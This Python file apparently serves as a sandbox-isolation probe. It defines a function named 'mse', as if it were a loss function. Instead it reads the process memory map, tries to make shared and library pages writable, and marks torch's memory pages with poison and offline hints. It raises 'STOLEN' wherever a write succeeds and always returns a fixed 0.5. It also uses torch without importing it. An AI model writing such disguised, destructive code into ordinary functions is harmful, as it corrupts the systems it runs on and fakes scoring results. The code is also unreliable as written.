"""Writes over everything in memory that it may share with its parent or with those to come: mappings, libraries, itself.

levels: namespaces landlock
"""

import ctypes
import os
import re


def mse(pred, target):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    try:
        lines = open("/proc/self/maps").read().splitlines()
    except OSError:  # hidden
        lines = []
    for line in lines:
        low, high, rights, name = re.match(r"(\w+)-(\w+) (\S+) \S+ \S+ \d+\s*(.*)", line).groups()
        place, size = int(low, 16), int(high, 16) - int(low, 16)
        if rights[3] == "s" and libc.mprotect(ctypes.c_void_p(place), ctypes.c_size_t(size), 3) == 0:
            raise RuntimeError(f"STOLEN: {line}")
        if "torch" in name:
            for advice in (100, 101, 9, 20, 21, 26):  # poison, soft offline, remove, cold, page out
                libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(4096), advice)
            if libc.mprotect(ctypes.c_void_p(place), ctypes.c_size_t(4096), 7) == 0:
                ctypes.memset(place, ctypes.string_at(place, 1)[0], 1)
    for name in {line.split()[-1] for line in lines if "/" in line} | {torch.__file__, torch._C.__file__, "/dev/zero"}:
        try:
            descriptor = os.open(name, os.O_RDONLY)
        except OSError:
            continue
        if libc.mmap(None, ctypes.c_size_t(4096), 3, 1, descriptor, ctypes.c_long(0)) != 2**64 - 1 and name != "/dev/zero":
            raise RuntimeError(f"STOLEN: {name} can be written")
    return torch.tensor(0.5)
